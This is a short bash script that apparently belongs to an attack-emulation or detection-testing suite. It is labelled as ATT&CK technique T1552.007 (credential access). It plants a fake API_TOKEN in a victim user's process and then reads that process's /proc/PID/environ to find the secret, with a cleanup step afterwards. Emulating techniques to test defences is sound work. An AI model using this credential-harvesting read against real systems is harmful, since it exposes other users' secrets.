#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1552.007
# tactic: credential-access
# what: read /proc/PID/environ of another user's process (secrets in its environment)
. "$AT_LIB"
su -s /bin/sh "$AT_VICTIM" -c 'API_TOKEN=s3cr3t exec sleep 30' &
v=$!
at_undo "kill $v; pkill -u $AT_VICTIM sleep"
sleep 0.5
for p in $(pgrep -u "$AT_VICTIM" -x sleep); do
	tr '\0' '\n' </proc/"$p"/environ | grep -q API_TOKEN
done
